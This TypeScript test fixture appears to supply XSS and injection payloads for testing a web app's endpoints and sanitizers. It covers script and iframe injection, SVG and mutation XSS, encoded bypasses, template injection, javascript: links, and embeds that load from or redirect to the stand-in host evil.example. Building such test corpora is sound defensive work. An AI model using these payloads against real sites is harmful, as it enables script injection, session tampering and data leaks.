// Texts that would run, load or navigate if a page let them: each calls `hit` or requests something from another host.
import { whole } from '../../api/endpoint/hostile-payloads.ts';

/** The texts that the endpoints accept: those that PostgreSQL cannot store are rejected. */
const isText = (text: string) => text.isWellFormed() && !text.includes('\0');

const scripts = [
  '<script>hit()</script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>hit()</script>',
  '<script\t>hit()</script\n>',
  '<script>/*</script>*/hit()</script>',
  '<<script>hit()//<</script>',
  '<script x="</script>">hit()</script>',
  '</script><script>hit()</script>',
  '</script ><img src=x onerror=hit()>',
  '<!--<script>--><script>hit()</script>',
  '--><script>hit()</script><!--',
  ']]><script>hit()</script>',
  '</title><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '</style><script>hit()</script>',
  '</noscript><script>hit()</script>',
  '</template><script>hit()</script>',
  '</xmp></iframe></noembed></noframes><script>hit()</script>',
  '"></script><script>hit()</script>',
  '";hit();//',
  "';hit();//",
  '\\";hit();//',
  "\\';hit();//",
  '`\x24{hit()}`',
  '\u2028hit()\u2029',
  '",hit(),"',
  '"}]);hit();([{"a":"',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
];
const frames = [
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src=//evil.example></iframe>',
  '<iframe onload=hit()></iframe>',
  '<frameset onload=hit()><frame src=//evil.example></frameset>',
  '<object data="javascript:hit()"></object>',
  '<object data="data:text/html,<script>parent.hit()</script>"></object>',
  '<embed src="javascript:hit()">',
  '<portal src=//evil.example></portal>',
  '<applet code=hit></applet>',
];
const styles = [
  '<style>*{background:url(//evil.example/a)}</style>',
  '</style><style>@import"//evil.example/b";</style>',
  '<link rel=stylesheet href=//evil.example/c>',
  '<link rel=preload as=script href=//evil.example/d>',
  '<p style="background:url(//evil.example/e)">x</p>',
  '<p style="x:expression(hit())">x</p>',
  '}*{background:url(//evil.example/f)}{',
  ';background:url(//evil.example/g);',
  '*/}body{background:url(//evil.example/h)}/*',
  '<div style="animation-name:x" onanimationstart=hit()>x</div>',
  '<style>@keyframes x{}</style><b style="animation:x 1s" onanimationend=hit()>',
];
const svgs = [
  '<svg><script>hit()</script></svg>',
  '<svg><script href=//evil.example/i.js /></svg>',
  '<svg onload=hit()>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><set onbegin=hit() attributeName=x>',
  '<svg><a><animate attributeName=href values=javascript:hit() /><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x">',
  '<svg><image href=//evil.example/j onerror=hit()></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></foreignObject></svg>',
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
  '<math><mi xlink:href="javascript:hit()">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>',
];
/** Mutation XSS: the meaning changes when the result is parsed again. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  '<svg></p><title><style><img src="</style><img src=x onerror=hit()>">',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<noembed><img title="</noembed><img src=x onerror=hit()>"></noembed>',
  '<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>',
  '<template><p title="</template><img src=x onerror=hit()>">',
  '<p><svg><p><style><g title="</style><img src=x onerror=hit()>">',
  '<select><template><img src=x onerror=hit()></template></select>',
  '<table><caption><svg><title><table><tr><td><img src=x onerror=hit()>',
  '<a href="/de"><a href="javascript:hit()">x</a></a>',
  '<p title="`<img src=x onerror=hit()>`">x</p>',
  '<ul><li><p></ul><img src=x onerror=hit()>',
  '<!-- --!><img src=x onerror=hit()> -->',
  '<?x ><img src=x onerror=hit()> ?>',
  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=hit()>">]>&y;',
  '<plaintext><img src=x onerror=hit()>',
  '<image src=x onerror=hit()>',
  '<isindex type=image src=x onerror=hit()>',
];
const encoded = [
  '&lt;img src=x onerror=hit()&gt;',
  '&#60;img src=x onerror=hit()&#62;',
  '&#x3C;script&#x3E;hit()&#x3C;/script&#x3E;',
  '&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;',
  '%3Cscript%3Ehit()%3C/script%3E',
  '%253Cscript%253Ehit()%253C/script%253E',
  '+ADw-script+AD4-hit()+ADw-/script+AD4-',
  '＜script＞hit()＜/script＞',
  '\u02c2script\u02c3hit()\u02c2/script\u02c3',
  '\u{e003c}script\u{e003e}hit()',
  '<ſcript>hit()</ſcript>',
  '<sc\u00adript>hit()</sc\u00adript>',
  '<img src=x on\u00aderror=hit()>',
  '<img src=x on\u200berror=hit()>',
  '<img/src=x/onerror=hit()>',
  '<img\fsrc=x\fonerror=hit()>',
  '<img src=x onerror\n=\nhit()>',
  '<img src=x onerror="&#104;it()">',
  '<img src=x onerror="\\u0068it()">',
  '<img """><img src=x onerror=hit()>">',
  "<img src='x' onerror='hit()'",
  '<img src=x:x onerror=hit() //',
];
/** Template and code injection. */
const templates = [
  '{{hit()}}',
  "{{constructor.constructor('hit()')()}}",
  '{{{hit()}}}',
  '\x24{hit()}',
  '#{hit()}',
  '<%= hit() %>',
  '{% hit() %}',
  '[[\x24{hit()}]]',
  '{hit()}',
  '<b v-on:click=hit() v-html="\'<img src=x onerror=hit()>\'">x</b>',
  '<b ng-app ng-csp ng-init=hit()>x</b>',
  '<b x-data x-init=hit()>x</b>',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=hit()>"}}',
  '{"$$typeof":"Symbol(react.element)","type":"script"}',
  '["P",1,{"then":"hit"}]',
  '[[<img src=x onerror=hit()>]]',
  "$1$&$`$'<img src=x onerror=hit()>",
];
const leadsAway = [
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<meta http-equiv=Set-Cookie content="foyer_session=x">',
  '<form action=//evil.example><input name=x autofocus></form>',
  '<form><button formaction=javascript:hit()>x</button></form>',
  '<input type=image src=//evil.example/k onerror=hit()>',
  '<img src=//evil.example/l>',
  '<img srcset="//evil.example/m 1x">',
  '<picture><source srcset=//evil.example/n><img></picture>',
  '<video poster=//evil.example/o><source onerror=hit()></video>',
  '<audio src=//evil.example/p autoplay>',
  '<body background=//evil.example/q onload=hit()>',
  '<table background=//evil.example/r>',
  '<a href="/de" ping=//evil.example>x</a>',
  '<img id=hit name=body><form id=document><input name=cookie>',
];

/** For fields with links and addresses. */
export const hostileLinks: readonly string[] = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  ' javascript:hit()',
  'java\tscript:hit()',
  'java\nscript:hit()',
  '\u0001javascript:hit()',
  'javascript&colon;hit()',
  'javascript&#58;hit()',
  '&#106;avascript:hit()',
  'javascript://evil.example/%0ahit()',
  'vbscript:hit()',
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=hit()>',
  'view-source:javascript:hit()',
  'feed:javascript:hit()',
  'blob:null/hit',
  '//evil.example',
  '/\\evil.example',
  'https:evil.example',
];
const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'p',
  'xss',
];
const handlers = [
  'onerror',
  'onload',
  'onfocus autofocus tabindex=1',
  'ontoggle',
  'onmouseover',
  'onpointerenter',
];
const withHandlers = tags.flatMap((tag) => handlers.flatMap((handler) => withHandler(tag, handler)));

function withHandler(tag: string, handler: string): string[] {
  const [name = '', ...rest] = handler.split(' ');
  const more = rest.map((part) => ` ${part}`).join('');
  return [`<${tag} ${name}=hit()${more}>`, `"><${tag} ${name}="hit()"${more}>`];
}

/** Break out of titles, attributes, styles and data in scripts: for texts that are also in a page's head. */
export const breakOuts: readonly string[] = [...scripts, ...styles, ...leadsAway, ...templates.slice(0, 5)];

export const hostileTexts: readonly string[] = [
  ...whole.filter(isText),
  ...breakOuts,
  ...frames,
  ...svgs,
  ...mutations,
  ...encoded.filter(isText),
  ...templates.slice(5),
  ...hostileLinks.map((link) => `<a href="${link}">x</a>`),
  ...withHandlers,
];

/** For fields with embeds of other hosts. */
export const hostileEmbeds: readonly string[] = [
  ...hostileLinks,
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>hit()</script>"></iframe>',
  '<script src="https://www.youtube.com.evil.example/x.js"></script>',
  'https://www.youtube.com.evil.example/watch?v=Foyer-Faust',
  'https://evil.example/https://www.youtube.com/watch?v=Foyer-Faust',
  'https://www.youtube.com@evil.example/watch?v=Foyer-Faust',
  'https://www.youtube.com/watch?v="><script>hit()</script>',
];

/** Groups texts up to a total length. Longer texts are left out. */
export function grouped(texts: readonly string[], max: number): string[] {
  const groups: string[] = [];
  for (const text of texts.filter(({ length }) => length <= max)) {
    const last = groups.at(-1);
    if (last !== undefined && last.length + 1 + text.length <= max)
      groups[groups.length - 1] = `${last} ${text}`;
    else groups.push(text);
  }
  return groups;
}
